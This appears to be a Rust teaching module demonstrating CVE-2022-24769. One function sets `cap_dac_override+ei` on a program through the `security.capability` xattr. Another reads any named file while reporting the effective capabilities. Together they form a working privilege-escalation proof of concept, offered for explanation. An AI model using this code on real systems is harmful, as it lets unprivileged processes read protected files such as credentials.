//! CVE-2022-24769: a capability that waits in a process until it meets the right file.

use std::ffi::CString;
use std::fs;

use nix::errno::Errno;

use crate::told;

/// CAP_DAC_OVERRIDE, as a bit of a set: read and write every file.
const OVERRIDE: u32 = 1 << 1;

/// `struct vfs_cap_data` of `<linux/capability.h>`, version 2, with the bit that makes them effective.
const REVISION_2: u32 = 0x0200_0000;
const EFFECTIVE: u32 = 1;

// ANCHOR: attack
/// execve(2) gives a new program what is in the *inheritable* sets of both the process and the file. A file's set is
/// no danger while the process's is empty, as it is for everybody on a usual system. Here we are such a program, run
/// by a user without rights.
pub fn read(words: &[String]) -> Result<String, String> {
    let file = words.first().ok_or("FILE is needed")?;
    let status = told("read status", fs::read_to_string("/proc/self/status"))?;
    let line = |name: &str| {
        status.lines().find(|line| line.starts_with(name)).unwrap_or_default().replace('\t', " ")
    };
    let text = told(
        &format!("uid {}, {}, open {file}", nix::unistd::getuid(), line("CapEff:")),
        fs::read_to_string(file),
    )?;
    Ok(format!("uid {}, {}: {}", nix::unistd::getuid(), line("CapEff:"), text.trim()))
}
// ANCHOR_END: attack

/// `PROGRAM`: what `setcap cap_dac_override+ei PROGRAM` does.
pub fn mark(words: &[String]) -> Result<String, String> {
    let program = words.first().ok_or("PROGRAM is needed")?;
    let words = [REVISION_2 | EFFECTIVE, 0, OVERRIDE, 0, 0];
    let value: Vec<u8> = words.iter().flat_map(|word: &u32| word.to_le_bytes()).collect();
    let path = told("PROGRAM", CString::new(program.as_str()))?;
    // SAFETY: both strings and the value outlive the call.
    let done = unsafe {
        libc::setxattr(path.as_ptr(), c"security.capability".as_ptr(), value.as_ptr().cast(), value.len(), 0)
    };
    told("setxattr", Errno::result(done))?;
    Ok(format!("{program} has cap_dac_override+ei"))
}
